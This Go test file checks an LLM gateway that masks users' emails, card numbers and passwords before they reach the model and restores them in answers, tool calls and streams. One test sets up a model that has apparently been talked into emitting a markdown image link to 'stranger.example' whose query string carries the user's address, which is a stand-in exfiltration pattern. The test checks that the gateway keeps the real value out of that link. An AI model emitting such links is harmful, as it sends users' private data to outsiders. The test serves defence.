package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/openai/openai-go/v3"
)

// What users write, and what the LLM receives in its place.
const (
	card2      = "5500005555555559"
	userText   = "I am " + email + " 😀, card " + card + ",\nand \"" + password + `" is C:\mine.`
	maskedText = "I am [REDACTED_EMAIL_1] 😀, card [REDACTED_CC_1],\nand \"[REDACTED_PASSWORD_1]\" is C:\\mine."
)

// sdkScenario is a conversation that goes the same way with every SDK.
type sdkScenario struct {
	name     string
	settings obj
	endpoint bool // modifiers at the endpoint instead of the backend
	options  sessionOptions
	streamed []bool // in what ways to have it; both when nil
	only     func(sdk) bool
	secrets  []string
	play     func(t *testing.T, k *talk, streamed bool)
}

func playWithSDKs(t *testing.T, scenarios ...sdkScenario) {
	t.Helper()
	t.Parallel()
	g := newLLMGateway(t)
	type run struct {
		name string
		play func(t *testing.T)
	}
	var runs []run
	for _, s := range scenarios {
		for _, client := range sdks {
			if s.only != nil && !s.only(client) {
				continue
			}
			ways := s.streamed
			if ways == nil {
				ways = []bool{false, true}
			}
			for _, streamed := range ways {
				e := g.llm(client.path, s.settings)
				e.route.atEndpoint = s.endpoint
				way := map[bool]string{false: "whole", true: "streamed"}[streamed]
				runs = append(runs, run{strings.Join([]string{s.name, client.name, way}, "/"), func(t *testing.T) {
					secrets := s.secrets
					if secrets == nil {
						secrets = []string{email, email2, card, card2, password}
					}
					s.play(t, client.talk(t, e, s.options, secrets...), streamed)
				}})
			}
		}
	}
	g.start(t)
	for _, r := range runs {
		t.Run(r.name, func(t *testing.T) {
			t.Parallel()
			r.play(t)
		})
	}
}

// sameText compares texts as users read them.
func sameText(t *testing.T, what, got, want string) {
	t.Helper()
	sameBytes(t, what, []byte(got), want)
}

func streams(ways ...bool) []bool { return ways }

func TestSDKsRestoreTheAnswer(t *testing.T) {
	chat := func(t *testing.T, k *talk, streamed bool) {
		k.say(userText)
		a := k.must(streamed)
		sameText(t, "the user got", strings.Join(a.texts, "|"), quoted(userText))
		k.llmSaw(1, maskedText, "be kind to [REDACTED_EMAIL_1]")
	}
	var scenarios []sdkScenario
	for _, script := range []string{"", "cut=1", "cut=2", "cut=7, packet=3"} {
		s := sdkScenario{name: "script " + script, options: sessionOptions{script: script, system: "be kind to " + email}, play: chat}
		if script != "" {
			s.streamed = streams(true)
		}
		scenarios = append(scenarios, s)
	}
	scenarios = append(scenarios, sdkScenario{
		name: "two choices", options: sessionOptions{script: "cut=1, interleave", n: 2}, only: func(s sdk) bool { return s.choices },
		play: func(t *testing.T, k *talk, streamed bool) {
			k.say(userText)
			a := k.must(streamed)
			sameText(t, "the user got", strings.Join(a.texts, "|"), quoted(userText)+"|"+secondQuoted(userText))
			k.llmSaw(1, maskedText)
		},
	})
	scenarios = append(scenarios, sdkScenario{
		name: "modifiers at the endpoint", endpoint: true, options: sessionOptions{script: "cut=1", system: "be kind to " + email}, play: chat,
	})
	for _, script := range []string{"brief", "brief, cut=1"} {
		scenarios = append(scenarios, sdkScenario{
			name: "an end that could go on as a placeholder, script " + script, options: sessionOptions{script: script},
			play: func(t *testing.T, k *talk, streamed bool) {
				const open = email + " or [REDACTED_EMAIL_"
				k.say(open)
				sameText(t, "the user got", k.must(streamed).texts[0], open)
				k.llmSaw(1, "[REDACTED_EMAIL_1] or [REDACTED_EMAIL_")
			},
		})
	}
	playWithSDKs(t, scenarios...)
}

// Whatever users write, and however the answer that repeats it is cut, it comes
// back to them as they wrote it.
func TestSDKsGiveBackWhatUsersWrote(t *testing.T) {
	t.Parallel()
	pieces := []string{
		email, email, email2, card, password, nasty, " ", "\n", ", ", "[", "]", "[REDACTED_EMAIL_", "[REDACTED_EMAIL_2]", "redacted email 1", `\[REDACTED\_CC\_1\]`,
		"[REDACTED_N_1", "_1]", "&#91;", `\u005b`, "［REDACTED_CC_3］", "é", "😀", `"`, `\`, "{", "}", "</p>", "https://wiki.example.com/?q=", "<", ">>", "12", "data: ", "\r\n",
	}
	p := nastyPolicy()
	rules := p["redaction_rules"].(list)
	for _, r := range []obj{
		rule("Mail", `[\w.]+@[\w.]+\w`, "[REDACTED_EMAIL]"), rule("Card", `\b4\d{15}\b`, "[REDACTED_CC]"), rule("Password", password, "[REDACTED_PASSWORD]"),
	} {
		rules = append(rules, r)
	}
	p["redaction_rules"] = rules
	g := newLLMGateway(t)
	endpoints := make([]*llmEndpoint, len(sdks))
	for i, client := range sdks {
		endpoints[i] = g.llm(client.path, obj{"policy": p})
	}
	g.start(t)
	secrets := []string{email, email2, password, nasty}
	for i, client := range sdks {
		t.Run(client.name, func(t *testing.T) {
			t.Parallel()
			random := rand.New(rand.NewPCG(5, uint64(i)))
			for range 60 {
				text := "I wrote "
				for range 1 + random.IntN(12) {
					text += pieces[random.IntN(len(pieces))]
				}
				script := fmt.Sprintf("brief, cut=%d, packet=%d", random.IntN(6), random.IntN(2)*(10+random.IntN(40)))
				k := client.talk(t, endpoints[i], sessionOptions{script: script}, secrets...)
				k.say(text)
				if a := k.must(true); strings.Join(a.texts, "|") != text {
					t.Fatalf("with the script %q, the user wrote\n %q and got\n %q", script, text, a.texts)
				}
			}
		})
	}
}

func TestSDKsRestoreWhatModelsMakeOfPlaceholders(t *testing.T) {
	var scenarios []sdkScenario
	for _, spelling := range []string{"lower", "spaces", "hyphens", "zeros", "markdown", "html", "unicode", "fullwidth"} {
		scenarios = append(scenarios, sdkScenario{
			name: spelling, options: sessionOptions{script: "cut=1, spelling=" + spelling},
			play: func(t *testing.T, k *talk, streamed bool) {
				k.say(userText)
				a := k.must(streamed)
				sameText(t, "the user got", a.texts[0], quoted(userText))
				k.llmSaw(1, maskedText)
			},
		})
	}
	bare := func(settings obj, want string) sdkScenario {
		return sdkScenario{
			settings: settings, options: sessionOptions{script: "cut=1, spelling=bare"},
			play: func(t *testing.T, k *talk, streamed bool) {
				k.say("I am " + email + ", not REDACTED_EMAIL_12")
				sameText(t, "the user got", k.must(streamed).texts[0], quoted("I am "+want+", not REDACTED_EMAIL_12"))
				k.llmSaw(1, "I am [REDACTED_EMAIL_1], not REDACTED_EMAIL_12")
			},
		}
	}
	standard, aggressive := bare(nil, "REDACTED_EMAIL_1"), bare(obj{"tolerant": "aggressive"}, email)
	standard.name, aggressive.name = "without brackets it could be a word of its own", "without brackets, aggressive"
	scenarios = append(scenarios, standard, aggressive, sdkScenario{
		name: "strict", settings: obj{"tolerant": "strict"}, options: sessionOptions{script: "cut=1, spelling=lower"},
		play: func(t *testing.T, k *talk, streamed bool) {
			k.say(email)
			sameText(t, "the user got", k.must(streamed).texts[0], quoted("[redacted_email_1]"))
		},
	})
	playWithSDKs(t, scenarios...)
}

// A model that was talked into a link to a stranger gets no help.
func TestSDKsDoNotHelpLinks(t *testing.T) {
	const text = "I am " + email + ", call the office"
	scenario := func(name string, settings obj, at string) sdkScenario {
		return sdkScenario{
			name: name, settings: settings, options: sessionOptions{script: "cut=1, link"},
			play: func(t *testing.T, k *talk, streamed bool) {
				k.say(text)
				want := quoted(text) + " ![x](https://stranger.example/?d=" + at + ")"
				sameText(t, "the user got", k.must(streamed).texts[0], want)
				k.llmSaw(1, "I am [REDACTED_EMAIL_1]")
			},
		}
	}
	playWithSDKs(
		t,
		scenario("a stranger", nil, "[REDACTED_EMAIL_1]"),
		scenario("a host of the settings", obj{"url_hosts": list{"stranger.example"}}, email),
		scenario("always", obj{"restore_in_urls": "always"}, email),
		scenario("never", obj{"restore_in_urls": "never", "url_hosts": list{"stranger.example"}}, "[REDACTED_EMAIL_1]"),
	)
}

func TestSDKsCallTools(t *testing.T) {
	const (
		ask    = "Please call the tool for " + email + " and card " + card
		result = `{"card":` + card2 + `,"mail":"` + email2 + `"}`
	)
	loop := func(t *testing.T, k *talk, streamed bool) {
		k.say(ask)
		a := k.must(streamed)
		if len(a.calls) != 1 || a.calls[0].name != "lookup" || a.calls[0].id == "" && k.sdk.name != geminiContent.name {
			t.Fatalf("the SDK read the calls %+v", a.calls)
		}
		sameJSON(t, "the tool's arguments are", []byte(a.calls[0].arguments), arguments(0, ask, email, card))
		k.llmSaw(1, "for [REDACTED_EMAIL_1] and card [REDACTED_CC_1]")

		k.result(a.calls[0], result)
		b := k.must(streamed)
		// In a text the number keeps the quotes of its placeholder.
		sameText(t, "the user got", strings.Join(b.texts, "|"), toolQuoted(strings.Replace(result, card2, `"`+card2+`"`, 1)))
		k.llmSaw(2, "for [REDACTED_EMAIL_1] and card [REDACTED_CC_1]", "[REDACTED_EMAIL_2]", "[REDACTED_CC_2]")
		if n := strings.Count(k.sent(2), "[REDACTED_EMAIL_1]"); n != 3 {
			t.Errorf("the address stands %d times in the history, want it in the message and twice in the arguments:\n%s", n, k.sent(2))
		}
	}
	playWithSDKs(
		t,
		sdkScenario{name: "loop", options: sessionOptions{tool: "lookup"}, play: loop},
		sdkScenario{name: "loop cut at every character", options: sessionOptions{tool: "lookup", script: "cut=1"}, streamed: streams(true), play: loop},
		sdkScenario{name: "loop in packets", options: sessionOptions{tool: "lookup", script: "cut=3, packet=7"}, streamed: streams(true), play: loop},
		sdkScenario{
			name: "two calls at once", options: sessionOptions{tool: "lookup", script: "cut=1, calls=2, interleave"},
			play: func(t *testing.T, k *talk, streamed bool) {
				k.say(ask)
				a := k.must(streamed)
				if len(a.calls) != 2 {
					t.Fatalf("the SDK read the calls %+v", a.calls)
				}
				for i, c := range a.calls {
					sameJSON(t, "the tool's arguments are", []byte(c.arguments), arguments(i, ask, email, card))
				}
			},
		},
		sdkScenario{
			name: "spelled otherwise", options: sessionOptions{tool: "lookup", script: "cut=1, spelling=markdown"},
			play: func(t *testing.T, k *talk, streamed bool) {
				k.say(ask)
				a := k.must(streamed)
				if len(a.calls) != 1 {
					t.Fatalf("the SDK read the calls %+v", a.calls)
				}
				sameJSON(t, "the tool's arguments are", []byte(a.calls[0].arguments), arguments(0, ask, email, card))
			},
		},
		sdkScenario{
			name: "a value that JSON must escape", options: sessionOptions{tool: "lookup", script: "cut=1"},
			settings: obj{"policy": nastyPolicy()}, secrets: []string{nasty},
			play: func(t *testing.T, k *talk, streamed bool) {
				k.say("call the tool for " + nasty)
				a := k.must(streamed)
				if len(a.calls) != 1 {
					t.Fatalf("the SDK read the calls %+v", a.calls)
				}
				sameJSON(t, "the tool's arguments are", []byte(a.calls[0].arguments), arguments(0, "call the tool for "+nasty, nasty))
				k.llmSaw(1, "call the tool for [REDACTED_N_1]")
			},
		},
		sdkScenario{
			name: "a number goes back as a number", options: sessionOptions{tool: "lookup", script: "cut=1"},
			play: func(t *testing.T, k *talk, streamed bool) {
				const first, again = "Please call the tool", "Now call the tool for it"
				k.say(first)
				a := k.must(streamed)
				if len(a.calls) != 1 {
					t.Fatalf("the SDK read the calls %+v", a.calls)
				}
				k.result(a.calls[0], result)
				k.say(again)
				b := k.must(streamed)
				if len(b.calls) != 1 {
					t.Fatalf("the SDK read the calls %+v", b.calls)
				}
				want := strings.Replace(arguments(0, again, "NUMBER", email2), `"NUMBER"`, card2, 1)
				sameJSON(t, "the tool's arguments are", []byte(b.calls[0].arguments), want)
				k.llmSaw(2, "[REDACTED_CC_1]", "[REDACTED_EMAIL_1]")
			},
		},
	)
}

// The provider verifies what the model thought when it comes back.
func TestSDKsKeepSignedThinking(t *testing.T) {
	play := func(t *testing.T, k *talk, streamed bool) {
		k.say(userText)
		a := k.must(streamed)
		sameText(t, "the user got", a.texts[0], quoted(userText))
		sameText(t, "the thinking is", a.thinking, `The user wrote: "`+maskedText+`". What now?`)
		k.llmSaw(1, maskedText)
		k.say("and " + email2)
		b := k.must(streamed)
		sameText(t, "the user got", b.texts[0], quoted("and "+email2))
		// What was sent before keeps its numbers, or the thinking is about
		// somebody else.
		k.llmSaw(2, maskedText, a.thinking, "and [REDACTED_EMAIL_2]")
	}
	playWithSDKs(
		t,
		sdkScenario{name: "words", options: sessionOptions{script: "think"}, only: func(s sdk) bool { return s.thinks }, play: play},
		sdkScenario{name: "characters", options: sessionOptions{script: "think, cut=1"}, only: func(s sdk) bool { return s.thinks }, play: play},
	)
}

func TestSDKsReadErrors(t *testing.T) {
	t.Parallel()
	g := newLLMGateway(t)
	type run struct {
		name string
		test func(t *testing.T)
	}
	var runs []run
	for _, client := range sdks {
		for _, streamed := range []bool{false, true} {
			for _, tc := range []struct {
				status     int
				key        string
				script     string
				message    string
				retryAfter string
			}{
				{status: http.StatusUnauthorized, key: "sk-wrong", message: "Incorrect API key provided."},
				{
					status: http.StatusTooManyRequests, script: "status=429", retryAfter: "7",
					message: "The stand-in was asked to fail with 429. " + strings.TrimSuffix(quoted(userText), " I will keep that in mind."),
				},
				{
					status: http.StatusInternalServerError, script: "status=500",
					message: "The stand-in was asked to fail with 500. " + strings.TrimSuffix(quoted(userText), " I will keep that in mind."),
				},
			} {
				e := g.llm(client.path, nil)
				runs = append(runs, run{fmt.Sprintf("%d/%s/streamed %v", tc.status, client.name, streamed), func(t *testing.T) {
					k := client.talk(t, e, sessionOptions{key: tc.key, script: tc.script}, email, card, password)
					k.say(userText)
					_, err := k.ask(t.Context(), streamed, func(int, string) {})
					f := client.failure(t, err)
					if f.status != tc.status || f.retryAfter != tc.retryAfter {
						t.Errorf("the SDK read status %d and Retry-After %q, want %d and %q", f.status, f.retryAfter, tc.status, tc.retryAfter)
					}
					sameText(t, "the error says", f.message, tc.message)
					k.llmSaw(1, maskedText)
					k.clean()
				}})
			}
		}
	}
	g.start(t)
	for _, r := range runs {
		t.Run(r.name, func(t *testing.T) {
			t.Parallel()
			r.test(t)
		})
	}
}

// prefaces are how many events come before the first text.
var prefaces = map[string]int{openAIChat.name: 1, openAIResponses.name: 4, anthropicMessages.name: 3, geminiContent.name: 0}

// A stream that ends too early still delivers all that arrived.
func TestSDKsGetAllOfABrokenStream(t *testing.T) {
	t.Parallel()
	const begun = `You wrote: "` // and then "[REDACTED_EMAIL_1] and so on"
	g := newLLMGateway(t)
	type run struct {
		name string
		test func(t *testing.T)
	}
	var runs []run
	for _, client := range sdks {
		for _, ending := range []string{"drop", "abort"} {
			for arrived, want := range map[string]string{
				"You wr":                         "You wr",
				begun + "[":                      begun + "[",
				begun + "[REDACTED_E":            begun + "[REDACTED_E",
				begun + "[REDACTED_EMAIL_1":      begun + "[REDACTED_EMAIL_1",
				begun + "[REDACTED_EMAIL_1]":     begun + email,
				begun + "[REDACTED_EMAIL_1] and": begun + email + " and",
			} {
				e := g.llm(client.path, nil)
				script := fmt.Sprintf("cut=1, %s=%d", ending, prefaces[client.name]+len(arrived))
				runs = append(runs, run{fmt.Sprintf("%s/%s/%d characters", ending, client.name, len(arrived)), func(t *testing.T) {
					k := client.talk(t, e, sessionOptions{script: script}, email)
					k.say(email + " and so on")
					var got strings.Builder
					_, err := k.ask(t.Context(), true, func(_ int, text string) { got.WriteString(text) })
					if ending == "drop" && err != nil && client.name != geminiContent.name {
						t.Errorf("the SDK refuses the stream: %v", err)
					}
					sameText(t, "the user got", got.String(), want)
					k.llmSaw(1, "[REDACTED_EMAIL_1] and so on")
					k.clean()
				}})
			}
		}
	}
	g.start(t)
	for _, r := range runs {
		t.Run(r.name, func(t *testing.T) {
			t.Parallel()
			r.test(t)
		})
	}
}

// Users leave. Text has come to them as it was written until then, the LLM is
// told, and nothing stays behind in the gateway.
func TestNothingIsLeftWhenUsersLeave(t *testing.T) {
	t.Parallel()
	const each = 5 // whole and streamed
	g := newLLMGateway(t)
	port, err := freePort()
	if err != nil {
		t.Fatal(err)
	}
	stats := fmt.Sprintf("http://127.0.0.1:%d/__stats", port)
	g.root = obj{"extra_config": obj{
		"telemetry/logging": obj{"level": "DEBUG", "stdout": true, "prefix": "[KRAKEND]"},
		"telemetry/metrics": obj{"collection_time": "1s", "listen_address": fmt.Sprintf("127.0.0.1:%d", port)},
		"router":            obj{"return_error_msg": true, "health_path": g.health},
	}}
	endpoints := map[string]*llmEndpoint{}
	for _, client := range sdks {
		endpoints[client.name] = g.llm(client.path, nil)
	}
	g.start(t)
	goroutines := func() int {
		resp, err := g.client.Get(stats)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var gauges map[string]any
		if err := json.NewDecoder(resp.Body).Decode(&gauges); err != nil {
			t.Fatal(err)
		}
		for name, v := range gauges {
			if n, ok := v.(float64); ok && strings.HasSuffix(name, "runtime.NumGoroutine") {
				return int(n)
			}
		}
		t.Fatal("the gateway does not tell how many goroutines it runs")
		return 0
	}
	secrets := []string{email, card, password}
	// A first round opens what stays open: connections that are kept alive.
	for _, client := range sdks {
		k := client.talk(t, endpoints[client.name], sessionOptions{}, secrets...)
		k.say(userText)
		k.must(true)
	}
	const collected = 1500 * time.Millisecond // KrakenD counts once a second
	g.client.CloseIdleConnections()
	time.Sleep(collected)
	before := goroutines()

	ctx, leave := context.WithCancel(t.Context())
	defer leave()
	var users sync.WaitGroup
	came := make(chan string, len(sdks)*each)
	const soFar = `You wrote: "I am ` + email + " 😀, card " + card + ","
	for _, client := range sdks {
		for range each {
			k := client.talk(t, endpoints[client.name], sessionOptions{script: "cut=1, stall=90"}, secrets...)
			k.say(userText)
			users.Go(func() {
				var got strings.Builder
				pieces, told := 0, false
				_, err := k.ask(ctx, true, func(_ int, text string) {
					got.WriteString(text)
					pieces++
					if !told && strings.HasPrefix(got.String(), soFar) {
						told = true
						came <- client.name
					}
				})
				if !errors.Is(err, context.Canceled) {
					t.Errorf("%s returned %v, want that the context was cancelled", client.name, err)
				}
				if pieces < 25 {
					t.Errorf("%s got %d pieces, want one for every character that is no placeholder: %q", client.name, pieces, got.String())
				}
			})
			w := client.talk(t, endpoints[client.name], sessionOptions{script: "stall=1"}, secrets...)
			w.say(userText)
			users.Go(func() {
				if _, err := w.ask(ctx, false, func(int, string) {}); !errors.Is(err, context.Canceled) {
					t.Errorf("%s returned %v for a whole answer, want that the context was cancelled", client.name, err)
				}
			})
		}
	}
	// The LLM says no more, so whoever has this text did not wait for the end.
	for range cap(came) {
		select {
		case <-came:
		case <-time.After(20 * time.Second):
			t.Fatal("not everybody got the text that the LLM had sent before it fell silent")
		}
	}
	open := func() (n int) {
		for _, e := range endpoints {
			n += int(e.open.Load())
		}
		return n
	}
	eventually(t, "requests that have not reached the LLM", func() int { return 2*len(sdks)*each - open() }, 0)
	leave()
	users.Wait()
	eventually(t, "requests that the LLM is still answering", func() int { return open() }, 0)
	g.client.CloseIdleConnections()
	time.Sleep(collected)
	eventually(t, "goroutines more than before in the gateway", func() int { return max(goroutines()-before, 0) }, 4)
	for name, e := range endpoints {
		for _, r := range e.received() {
			if found := leak(r.wire(), secrets); found != "" || !holds(string(r.body), maskedText) {
				t.Fatalf("from %s the LLM received %s, with leak %q", name, r.body, found)
			}
		}
	}
	if found := leak(g.log.String(), secrets); found != "" {
		t.Errorf("the gateway's log shows %s", found)
	}
}

// eventually waits until count is at most most.
func eventually(t *testing.T, what string, count func() int, most int) {
	t.Helper()
	n := 0
	for range 100 {
		if n = count(); n <= most {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Errorf("%s: %d, want at most %d", what, n, most)
}

// Tokens go with a text: those of another text are worse than none.
func TestSDKLogprobsAreNeverWrong(t *testing.T) {
	t.Parallel()
	g := newLLMGateway(t)
	whole, streamed := g.llm(openAIChat.path, nil), g.llm(openAIChat.path, nil)
	g.start(t)
	g.hide(email, card, password)
	client := func(e *llmEndpoint) *openai.Client {
		c := openAIClient(sessionOptions{url: g.url + "/" + e.id + "/v1", key: llmKey, client: g.client, script: "cut=3"})
		return &c
	}
	params := openai.ChatCompletionNewParams{
		Model: "gpt-4", Logprobs: openai.Bool(true), Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(userText)},
	}
	spelled := func(tokens []openai.ChatCompletionTokenLogprob) string {
		var text strings.Builder
		for _, token := range tokens {
			text.WriteString(token.Token)
			if len(token.Bytes) > 0 && len(token.Bytes) != len(token.Token) {
				t.Errorf("the token %q has %d bytes", token.Token, len(token.Bytes))
			}
		}
		return text.String()
	}
	c, err := client(whole).Chat.Completions.New(t.Context(), params)
	if err != nil {
		t.Fatal(err)
	}
	sameText(t, "the user got", c.Choices[0].Message.Content, quoted(userText))
	if tokens := c.Choices[0].Logprobs.Content; len(tokens) > 0 {
		sameText(t, "the tokens are", spelled(tokens), quoted(userText))
	}
	stream := client(streamed).Chat.Completions.NewStreaming(t.Context(), params)
	defer stream.Close()
	var text strings.Builder
	told := 0
	for stream.Next() {
		for _, choice := range stream.Current().Choices {
			text.WriteString(choice.Delta.Content)
			if tokens := choice.Logprobs.Content; len(tokens) > 0 {
				told++
				sameText(t, "the tokens are", spelled(tokens), choice.Delta.Content)
			}
		}
	}
	if err := stream.Err(); err != nil {
		t.Fatal(err)
	}
	sameText(t, "the user got", text.String(), quoted(userText))
	if told == 0 {
		t.Error("no event has logprobs any more, though most did not change")
	}
	for _, e := range []*llmEndpoint{whole, streamed} {
		got := e.received()
		if len(got) != 1 || !holds(string(got[0].body), maskedText) {
			t.Errorf("the LLM received %d requests, the first %s", len(got), got[0].body)
		}
		if found := leak(got[0].wire()+g.log.String(), []string{email, card, password}); found != "" {
			t.Errorf("the LLM or the log has %s", found)
		}
	}
}

func TestSDKEmbeddingsAreOfMaskedText(t *testing.T) {
	t.Parallel()
	g := newLLMGateway(t)
	e, moderated := g.llm("/v1/embeddings", nil), g.llm("/v1/moderations", nil)
	g.start(t)
	g.hide(email, card)
	client := openAIClient(sessionOptions{url: g.url + "/" + e.id + "/v1", key: llmKey, client: g.client})
	r, err := client.Embeddings.New(t.Context(), openai.EmbeddingNewParams{
		Model: "text-embedding-3-small",
		Input: openai.EmbeddingNewParamsInputUnion{OfArrayOfStrings: []string{"mail " + email, "card " + card, "mail " + email}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Data) != 3 || len(r.Data[0].Embedding) == 0 || slices.Equal(r.Data[0].Embedding, r.Data[1].Embedding) ||
		!slices.Equal(r.Data[0].Embedding, r.Data[2].Embedding) {
		t.Errorf("the SDK read %+v", r.Data)
	}
	got := e.received()
	if len(got) != 1 {
		t.Fatalf("the LLM was called %d times", len(got))
	}
	sameJSON(t, "the LLM received", got[0].body,
		`{"model":"text-embedding-3-small","input":["mail [REDACTED_EMAIL_1]","card [REDACTED_CC_1]","mail [REDACTED_EMAIL_1]"]}`)

	client = openAIClient(sessionOptions{url: g.url + "/" + moderated.id + "/v1", key: llmKey, client: g.client})
	m, err := client.Moderations.New(t.Context(), openai.ModerationNewParams{
		Input: openai.ModerationNewParamsInputUnion{OfString: openai.String("is " + email + " rude?")},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Results) != 1 || m.Results[0].Flagged {
		t.Errorf("the SDK read %+v", m.Results)
	}
	got = moderated.received()
	if len(got) != 1 {
		t.Fatalf("the LLM was called %d times", len(got))
	}
	sameJSON(t, "the LLM received", got[0].body, `{"input":"is [REDACTED_EMAIL_1] rude?"}`)
	if found := leak(got[0].wire()+g.log.String(), []string{email, card}); found != "" {
		t.Errorf("the LLM or the log has %s", found)
	}
}
